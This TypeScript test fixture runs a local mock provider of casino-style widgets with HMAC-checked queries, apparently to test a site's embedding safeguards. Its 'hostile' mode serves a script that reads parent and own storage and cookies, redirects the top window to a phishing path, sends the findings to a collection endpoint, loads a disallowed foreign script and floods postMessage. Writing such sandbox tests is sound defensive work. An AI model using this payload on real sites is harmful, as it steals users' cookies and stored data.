import { createHmac, timingSafeEqual } from 'node:crypto'
import { createServer, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** What the provider and the operator share. */
export const WIDGET_KEY = '1d'.repeat(32)
export const WIDGET_OPERATOR = 'sample-operator'
const LIFE_MS = 600_000
const AHEAD_MS = 60_000

/** down: no connection is answered. empty: there is nothing to show. hostile: the script attacks the site. */
type Mode = 'up' | 'down' | 'empty' | 'hostile'

/** A small provider of widgets after `docs/widgets.md`, which shares no code with ours. */
export type WidgetProvider = {
  readonly origin: string
  mode: Mode
  /** Another server, whose script the site does not allow. */
  readonly stranger: string
  /** The queries that were answered, what the script of a hostile provider found, and how often a stranger was asked. */
  readonly answered: URL[]
  readonly found: string[]
  strangerAsked: number
  stop(): Promise<void>
}

/** Why a query is refused; undefined where its key proves it. */
function faultOf(query: URLSearchParams, nowMs: number): string | undefined {
  const [pid, op, timestamp, mode] = ['pid', 'op', 'timestamp', 'load_mode'].map(
    name => query.get(name) ?? '',
  )
  if (op !== WIDGET_OPERATOR) return 'another operator'
  if ((mode === 'Authenticated') !== (pid !== '')) return 'a mode that does not fit'
  const age = nowMs - Number(timestamp)
  if (!(age <= LIFE_MS && age >= -AHEAD_MS)) return 'too old'
  const made = createHmac('sha256', Buffer.from(WIDGET_KEY, 'hex'))
    .update(['ruka-widget-v1', pid, op, timestamp, mode].join('\n'))
    .digest()
  const given = Buffer.from(query.get('key') ?? '', 'hex')
  return given.length === made.length && timingSafeEqual(given, made) ? undefined : 'a wrong key'
}

const NAMES = ['jackpots', 'races', 'leaderboard'] as const
/** What each widget lists. */
const rowsOf = (name: string, pid: string): readonly string[] =>
  name === 'jackpots'
    ? ['Sample pot KES 1,234', 'Sample mega pot KES 99,000']
    : name === 'races'
      ? ['Sample race, ACTIVE']
      : ['PENDING', 'ACTIVE', 'FINISHED', pid === '' ? 'You are not in it' : 'Your place: 3']

const script = (origin: string): string => `for (const name of ${JSON.stringify(NAMES)})
  customElements.define('live-' + name, class extends HTMLElement {
    static observedAttributes = ['key']
    async attributeChangedCallback() {
      const attribute = at => this.getAttribute(at)
      const query = new URLSearchParams({
        pid: attribute('pid'), op: attribute('op'), timestamp: attribute('timestamp'), key: attribute('key'),
        load_mode: attribute('load-mode'), limit: attribute('limit'), lang: attribute('lang'),
      })
      const say = detail => this.dispatchEvent(new CustomEvent('widget-state', { detail }))
      const answer = await fetch('${origin}/v1/' + name + '?' + query).catch(() => undefined)
      if (!answer?.ok) return say('failed')
      const rows = await answer.json()
      if (rows.length === 0) return say('empty')
      say('ready')
      const root = this.shadowRoot ?? this.attachShadow({ mode: 'open' })
      root.innerHTML = '<ul style="margin:0;color:var(--ruka-text)"></ul>'
      for (const row of rows) root.querySelector('ul').append(Object.assign(document.createElement('li'), { textContent: row }))
    }
  })`

/** Tries what a script must not be able to do, and reports what it could. */
const hostile = (origin: string, stranger: string): string => `${script(origin)}
const attempts = {
  storage: () => parent.localStorage.length,
  page: () => parent.document.title,
  own: () => JSON.stringify(Object.entries(localStorage)),
  cookies: () => document.cookie,
  top: () => { top.location.href = '${origin}/phish'; return 'asked' },
}
for (const [name, attempt] of Object.entries(attempts)) {
  let got = 'refused'
  try { got = String(attempt()) } catch {}
  fetch('${origin}/found?' + name + '=' + encodeURIComponent(got))
}
document.head.append(Object.assign(document.createElement('script'), { src: '${stranger}/stranger.js' }))
const post = message => parent.postMessage(message, '*')
setInterval(() => post({ type: 'ruka:widget-height', height: 999999 }), 100)
post({ type: 'ruka:balance' })`

export async function openWidgetProvider(): Promise<WidgetProvider> {
  const send = (reply: ServerResponse, status: number, type: string, body: string) =>
    reply
      .writeHead(status, {
        'content-type': type,
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
      })
      .end(body)
  const server = createServer((request, reply) => {
    const url = new URL(request.url ?? '/', provider.origin)
    const { mode } = provider
    if (mode === 'down') return void request.socket.destroy()
    if (request.method === 'OPTIONS') return send(reply, 204, 'text/plain', '')
    if (url.pathname === '/live.js')
      return send(
        reply,
        200,
        'text/javascript',
        mode === 'hostile' ? hostile(provider.origin, provider.stranger) : script(provider.origin),
      )
    if (url.pathname === '/found') {
      provider.found.push(decodeURIComponent(url.search.slice(1)))
      return send(reply, 200, 'text/plain', '')
    }
    const name = /^\/v1\/(\w+)$/.exec(url.pathname)?.[1]
    if (name === undefined) return send(reply, 404, 'text/plain', '')
    const fault = faultOf(url.searchParams, Date.now())
    if (fault !== undefined) return send(reply, 403, 'text/plain', fault)
    provider.answered.push(url)
    const rows = mode === 'empty' ? [] : rowsOf(name, url.searchParams.get('pid') ?? '')
    send(reply, 200, 'application/json', JSON.stringify(rows))
  })
  const other = createServer((_, reply) => {
    provider.strangerAsked++
    send(reply, 200, 'text/javascript', '')
  })
  const provider: WidgetProvider = {
    origin: await listen(server),
    stranger: await listen(other),
    strangerAsked: 0,
    mode: 'up',
    answered: [],
    found: [],
    async stop() {
      for (const each of [server, other]) {
        each.closeAllConnections()
        await new Promise(resolve => each.close(resolve))
      }
    },
  }
  return provider
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}
